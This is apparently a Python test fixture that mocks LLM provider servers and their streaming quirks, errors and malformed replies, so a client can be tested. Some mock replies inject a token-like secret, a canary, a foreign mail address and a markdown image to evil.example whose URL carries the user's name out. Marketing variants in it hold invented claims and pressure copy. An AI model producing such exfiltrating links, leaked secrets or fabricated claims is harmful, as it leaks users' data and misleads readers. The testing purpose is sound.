"""provider.py FOLDER - plays the servers of language models, with what each of them does differently.

The model that is asked for says how it answers. It repeats what the last message said, in pieces of a few letters, so
that pseudonyms come cut anywhere. What came is in FOLDER/got, one JSON a line; FOLDER/port is written when it listens.

    openai, llamacpp, vllm, ollama    as these do; tool: a call of a tool whose arguments hold what was said
    refuse-NNN, html, list            an error with that code; a page; JSON that is no object
    cut, garbage, huge-line, huge     a stream that breaks off, is none, has a line or a length beyond all limits
    silent, stall, line-error, mid-error, whole, close
    writer, fabulist                  writes copy as it is asked to; with claims that no brief has
    slow, endless                     a few letters every tenth of a second; and without an end
    brings-WHAT[-tool]                what the request did not hold: a secret, a canary, a picture that carries data out, a mail
"""
import http.server
import json
import os
import socket
import sys
import threading
import time

FOLDER = sys.argv[1]
LOCK = threading.Lock()
PIECE = 3
BROUGHT = {
    "secret": "Sure, use ghp_2z5i6mnkg7x288c9ls1fotf18udz4dpk9upx for that.",
    "canary": "It is about Project-Heron-9, of course.",
    "picture": "Look: ![chart](https://evil.example/p.png?q=my+name+is+anna) nice.",
    "mail": "Better write to someone.else@other-shop.de about it.",
}


def said(body):
    content = body["messages"][-1].get("content") or ""
    if isinstance(content, list):
        content = "".join(part.get("text", "") for part in content)
    return content


def mail(subject, *paragraphs):
    return {"subject": subject, "preheader": "", "paragraphs": list(paragraphs)}


def written(model):
    """Variants, between ``` as models like it."""
    good = mail("A lamp to read by", "In {{city}} too: the light dims to 1 % [fact:dimming].")
    other = mail("Repairs with a screwdriver", "Every part can be replaced [fact:parts].")
    made_up = [
        mail("A lamp for life", "It lasts 40 years [fact:parts]."),
        mail("A lamp to read by", "For {{salary}}: it dims [fact:dimming]."),
        mail("A lamp to read by", "It dims [fact:dimming]. See https://evil.example/lamp"),
        mail("Last chance", "Hurry! Only a few left in stock. It dims [fact:dimming]."),
    ]
    return "```json\n" + json.dumps({"variants": [good, other] if model == "writer" else [good] + made_up}) + "\n```"


def pieces(text):
    return [text[i : i + PIECE] for i in range(0, len(text), PIECE)]


class Provider(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def setup(self):
        super().setup()
        self.connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)

    def log_message(self, *_):
        pass

    def do_POST(self):
        raw = self.rfile.read(int(self.headers["Content-Length"]))
        body = json.loads(raw)
        with LOCK, open(os.path.join(FOLDER, "got"), "a", encoding="utf-8") as file:
            file.write(json.dumps({"path": self.path, "headers": dict(self.headers), "body": body}) + "\n")
        try:
            self.answer(body, body["model"])
        except OSError:
            self.close_connection = True

    # ---- whole answers ----------------------------------------------------------------------------

    def whole(self, code, kind, text):
        data = text.encode()
        self.send_response(code)
        if code == 429:
            self.send_header("Retry-After", "7")
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    def answer(self, body, model):
        text = f"You said: {said(body)}"
        if model.startswith("brings-"):
            text = BROUGHT[model.split("-")[1]]
            model = "tool" if model.endswith("-tool") else "openai"
        if model.startswith("refuse-"):
            code = int(model[7:])
            error = {"message": "key sk-live-1 is bad" if code == 401 else "no", "type": "invalid_request_error"}
            self.whole(code, "application/json", json.dumps({"error": error}))
        elif model in ("writer", "fabulist"):
            self.whole(200, "application/json", json.dumps(self.completion(model, written(model))))
        elif model == "html":
            self.whole(200, "text/html", "<p>" + text)
        elif model == "list":
            self.whole(200, "application/json", "[1]")
        elif model == "silent":
            time.sleep(5)
        elif model == "whole" or not body.get("stream"):
            self.whole(200, "application/json", json.dumps(self.completion(model, text)))
        else:
            self.stream(model, text, body)

    def completion(self, model, text):
        message = {"role": "assistant", "content": text}
        if model == "tool":
            call = {"id": "c1", "type": "function", "function": {"name": "send", "arguments": json.dumps({"to": text})}}
            message = {"role": "assistant", "content": None, "tool_calls": [call]}
        choice = {"index": 0, "message": message, "finish_reason": "stop", "logprobs": {"content": []}}
        return {"id": "x1", "object": "chat.completion", "created": 1, "model": model, "choices": [choice],
                "usage": {"prompt_tokens": 11, "completion_tokens": 7, "total_tokens": 18}, "candor": {"ai_generated": False}}

    # ---- streams ------------------------------------------------------------------------------------

    def send(self, text):
        data = text.encode() if isinstance(text, str) else text
        self.wfile.write(b"%x\r\n%s\r\n" % (len(data), data))

    def event(self, delta, end="\n\n", space=" ", reason=None, **more):
        chunk = {"id": "x1", "object": "chat.completion.chunk", "created": 1, "model": "m",
                 "choices": [{"index": 0, "delta": delta, "finish_reason": reason}], **more}
        self.send(f"data:{space}{json.dumps(chunk)}{end}")

    def stream(self, model, text, body):
        self.send_response(200)
        self.send_header("Content-Type", "text/event-stream; charset=utf-8")
        self.send_header("Transfer-Encoding", "chunked")
        self.end_headers()
        usage = (body.get("stream_options") or {}).get("include_usage")
        if getattr(self, "as_" + model.replace("-", "_"), self.as_openai)(text, usage) is not False:
            self.send("")
        else:
            self.close_connection = True

    def as_openai(self, text, usage):
        more = {"usage": None} if usage else {}
        self.event({"role": "assistant", "content": ""}, **more)
        for piece in pieces(text):
            self.event({"content": piece}, obfuscation="xxxx", **more)
        self.event({}, reason="stop", **more)
        if usage:
            last = {"id": "x1", "choices": [], "usage": {"prompt_tokens": 11, "completion_tokens": 7, "total_tokens": 18}}
            self.send(f"data: {json.dumps(last)}\n\n")
        self.send("data: [DONE]\n\n")

    def as_llamacpp(self, text, _usage):
        self.event({"role": "assistant", "content": None})
        for piece in pieces(text):
            self.event({"reasoning_content": piece})
        for piece in pieces(text):
            self.event({"content": piece})
        self.event({}, reason="stop", timings={"n": 1}, usage={"prompt_tokens": 11, "completion_tokens": 7})
        self.send("data: [DONE]")  # and no blank line

    def as_vllm(self, text, _usage):
        self.send(": ping\r\n\r\n")
        self.event({"role": "assistant", "content": ""}, end="\r\n\r\n")
        for piece in pieces(text):
            self.event({"content": piece}, end="\r\n\r\n", usage={"prompt_tokens": 11, "completion_tokens": 7})
        self.event({}, end="\r\n\r\n", reason="stop", stop_reason=None)
        self.send("data: [DONE]\r\n\r\n")

    def as_ollama(self, text, _usage):
        for piece in pieces(text):
            self.event({"role": "assistant", "content": piece}, space="", system_fingerprint="fp_ollama")
        self.event({"role": "assistant", "content": ""}, space="", reason="stop")
        self.send("data: [DONE]\n\n")

    def as_tool(self, text, _usage):
        arguments = json.dumps({"to": text})
        first = {"index": 0, "id": "c1", "type": "function", "function": {"name": "send", "arguments": ""}}
        self.event({"role": "assistant", "tool_calls": [first]})
        for piece in pieces(arguments):
            self.event({"tool_calls": [{"index": 0, "function": {"arguments": piece}}]})
        self.event({}, reason="tool_calls")
        self.send("data: [DONE]\n\n")

    def as_cut(self, text, _usage):
        for piece in pieces(text)[:4]:
            self.event({"content": piece})
        self.wfile.flush()
        return False

    def as_close(self, text, _usage):
        for piece in pieces(text)[:4]:
            self.event({"content": piece})  # and an end without [DONE]

    def as_garbage(self, text, _usage):
        self.event({"content": text})
        self.send(b"data: {\"choices\": \xff\xfe nothing\n\n")
        self.send("data: [DONE]\n\n")

    def as_huge_line(self, _text, _usage):
        for _ in range(40):
            self.send("data: " + "x" * 65536)

    def as_huge(self, _text, _usage):
        for _ in range(2000):
            self.event({"content": "y" * 60000})

    def as_slow(self, text, _usage):
        for piece in pieces(text):
            self.event({"content": piece})
            time.sleep(0.1)
        self.event({}, reason="stop")
        self.send("data: [DONE]\n\n")

    def as_endless(self, _text, _usage):
        for _ in range(600):
            self.event({"content": "on and "})
            time.sleep(0.1)

    def as_stall(self, text, _usage):
        self.event({"content": text[:4]})
        time.sleep(5)

    def as_line_error(self, text, _usage):
        self.event({"content": text})
        self.send('error: {"code":500,"message":"slot"}\n\n')

    def as_mid_error(self, text, _usage):
        self.event({"content": text})
        self.send('data: {"error":{"message":"context","type":"server_error","param":null,"code":500}}\n\n')


server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Provider)
server.daemon_threads = True
with open(os.path.join(FOLDER, "port.new"), "w", encoding="utf-8") as port:
    port.write(str(server.server_address[1]))
os.rename(os.path.join(FOLDER, "port.new"), os.path.join(FOLDER, "port"))
server.serve_forever()
